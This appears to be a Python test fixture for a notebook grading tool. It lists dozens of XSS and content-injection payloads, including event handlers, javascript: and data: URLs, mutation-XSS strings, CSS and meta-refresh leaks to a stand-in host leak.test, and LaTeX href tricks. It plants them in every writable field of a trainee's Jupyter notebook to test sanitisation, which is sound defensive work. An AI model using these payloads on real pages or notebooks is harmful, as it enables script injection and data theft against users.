"""Ways to get script, style, links and requests into a page, and a notebook that has all of them
in all places where a trainee can write.

Each way that works sets `window.ran`, asks for an address with "leak" in it, or puts an element
with the class "theirs" into the page.
"""

import copy
import json

from nbformat import NotebookNode, from_dict, v4

RUN = "window.ran=(window.ran||0)+1"
VECTORS = [
    f"<script class=theirs>{RUN}</script>",
    f"<img class=theirs src=x onerror='{RUN}'>",
    f"<svg class=theirs onload='{RUN}'></svg>",
    f"<svg class=theirs><script>{RUN}</script></svg>",
    f"<details class=theirs open ontoggle='{RUN}'>x</details>",
    f"<input class=theirs autofocus onfocus='{RUN}'>",
    f"<body onload='{RUN}'>",
    '<iframe class=theirs srcdoc="<script>parent.ran=1</script>"></iframe>',
    "<iframe class=theirs src='javascript:parent.ran=1'></iframe>",
    "<iframe class=theirs src='data:text/html,<script>fetch(\"//leak.test\")</script>'></iframe>",
    f"<math><mtext><table><mglyph><style><!--</style><img class=theirs src=x onerror='{RUN}'>",
    f"<noscript><p title=\"</noscript><img class=theirs src=x onerror='{RUN}'>\">",
    f"</textarea></script></style></pre></code><img class=theirs src=x onerror='{RUN}'>",
    f"<a class=theirs href='javascript:{RUN}'>read this</a>",
    f"[read this](javascript:{RUN})",
    "[read this](data:text/html;base64,PHNjcmlwdD4)",
    "![a picture](https://leak.test/picture.png)",
    "<https://leak.test/auto>",
    "[ref]\n\n[ref]: https://leak.test/ref \"title\"",
    "<link class=theirs rel=stylesheet href='https://leak.test/style.css'>",
    "<style class=theirs>@import 'https://leak.test/import.css'; body{display:none}</style>",
    "<div class=theirs style='position:fixed;inset:0;background:url(https://leak.test/bg)'>x</div>",
    "<meta class=theirs http-equiv=refresh content='0;url=https://leak.test/refresh'>",
    "<base class=theirs href='https://leak.test/base/'>",
    "<form class=theirs action='https://leak.test/form'><button autofocus>Go on</button></form>",
    "<object class=theirs data='https://leak.test/object'></object>",
    "<embed class=theirs src='https://leak.test/embed'>",
    "<video class=theirs src='https://leak.test/v' autoplay></video>",
    "<audio class=theirs src=x onerror='window.ran=1'></audio>",
    "<script src='/files/submitted/ana/08_groups/evil.js'></script>",
    r"$\href{javascript:window.ran=1}{\text{read this}}$",
    r"$$\unicode[theirs;color:red]{x41}\class{theirs}{x}\cssId{theirs}{y}\style{position:fixed}{z}$$",
    r"\begin{equation}\href{https://leak.test/tex}{x}\end{equation}",
    r"\\[ \href{javascript:window.ran=1}{x} \\]",
    "$$\n```\n$$\n<img class=theirs src=x onerror='window.ran=1'>\n",
    "```\n\n<img class=theirs src=x onerror='window.ran=1'>",
    "````\n```\n````\n<b class=theirs>x</b>\n``````\n<b class=theirs>x</b>",
    "~~~\n<img class=theirs src=x onerror='window.ran=1'>\n~~~",
    "    ```\n```mermaid\ngraph TD; A[\"<img class=theirs src=x onerror='window.ran=1'>\"]\n```",
    "\x1b]8;;javascript:window.ran=1\x1b\\read this\x1b]8;;\x1b\\",
    "\x1b[31m<img class=theirs src=x onerror='window.ran=1'>\x1b[0m",
    "&lt;img class=theirs src=x onerror=&#39;window.ran=1&#39;&gt;",
    "{{ 7*7 }}{% raw %}<img class=theirs src=x onerror='window.ran=1'>{% endraw %}",
    "\u202e<img class=theirs src=x onerror='window.ran=1'>\u202c\ud800\x00",
    "<img class=theirs src=x onerror='window.ran=1'>".replace("<", "\ufe64").replace("<", "＜"),
]  # fmt: skip
KINDS = [
    "text/html", "text/markdown", "text/latex", "image/svg+xml", "application/javascript",
    "text/plain", "application/pdf", "text/vnd.mermaid", "application/vnd.jupyter.widget-view+json",
]  # fmt: skip


def with_vectors(released: NotebookNode, valid: bool = False) -> NotebookNode:
    """A trainee's notebook in which every place that they can write is hostile.

    `valid`: only such places as a notebook may have by its schema, so that JupyterLab opens it.
    """
    notebook = copy.deepcopy(released)
    everything = "\n\n".join(VECTORS)
    for cell in notebook.cells:
        about = cell.metadata.get("nbgrader", {})
        if cell.cell_type == "code":
            cell.outputs = [] if valid else _outputs(everything)
        if about.get("solution"):
            cell.source = f'"""\n{everything}\n"""' if cell.cell_type == "code" else everything
        if not about:
            cell.id = cell.id  # theirs to change, as all that follows
            cell.metadata.tags = [f"x\"><img class=theirs src=x onerror='{RUN}'>"]
            cell.metadata.magics_language = everything
    for vector in VECTORS:
        notebook.cells.append(v4.new_markdown_cell(vector))
        notebook.cells.append(v4.new_raw_cell(vector, metadata={"raw_mimetype": "text/html"}))
        notebook.cells.append(v4.new_raw_cell(vector))
        code = v4.new_code_cell(f"%%html\n{vector}")
        code.outputs = [_shown({kind: vector}) for kind in KINDS]
        notebook.cells.append(code)
    if valid:
        notebook = _clean(notebook)
        notebook.metadata.trusted = True
        for cell in notebook.cells:
            cell.metadata.pop("tags", None)
            cell.metadata.trusted = True
            for output in cell.get("outputs", []):
                output.data = {k: v for k, v in output.data.items() if not k.endswith("+json")}
        return notebook
    image = f"<img class=theirs src=x onerror='{RUN}'>"
    strange = v4.new_code_cell("1")
    strange.outputs = _outputs(everything)
    strange.execution_count = image
    strange.id = f'"><{image}'
    strange.metadata.nbgrader = {
        "grade": True, "solution": True, "grade_id": f'x">{image}', "points": image,
        "locked": False, "task": False, "schema_version": 3, "cell_type": "code", "checksum": "",
    }  # fmt: skip
    notebook.cells.append(strange)
    attached = v4.new_markdown_cell("![x](attachment:a.svg)")
    attached.attachments = {"a.svg": {"image/svg+xml": f"<svg onload='{RUN}'/>"}}
    notebook.cells.append(attached)
    notebook.cells.append(NotebookNode(cell_type=image, source=image, metadata={}, id="z"))
    notebook.metadata.title = f"</title>{image}"
    notebook.metadata.language_info = {"name": image, "pygments_lexer": image}
    notebook.metadata.widgets = {
        "application/vnd.jupyter.widget-state+json": {"state": f"</script>{image}"}
    }
    return notebook


def _shown(data: dict, **metadata) -> NotebookNode:
    return NotebookNode(output_type="display_data", data=data, metadata=metadata)


def _outputs(text: str) -> list[NotebookNode]:
    image = f"<img class=theirs src=x onerror='{RUN}'>"
    return [
        NotebookNode(output_type="stream", name="stdout", text=text),
        NotebookNode(output_type="stream", name="stderr", text=text),
        NotebookNode(output_type=image, name=image, text=text),
        NotebookNode(output_type="error", ename=image, evalue=text, traceback=[text]),
        *[_shown({kind: text}) for kind in KINDS],
        _shown({"text/html": text}, **{"text/html": {"isolated": True}}),
        _shown({"image/png": f'x">{image}'}, **{"image/png": {"alt": f'">{image}', "width": "x"}}),
        NotebookNode(output_type="execute_result", data={"text/html": text}, metadata={},
                     execution_count=image),
    ]  # fmt: skip


def _clean(notebook: NotebookNode) -> NotebookNode:
    """Without what no file in UTF-8 can hold."""
    text = json.dumps(notebook).replace("\\ud800", "").replace("\\u0000", "")
    return from_dict(json.loads(text))
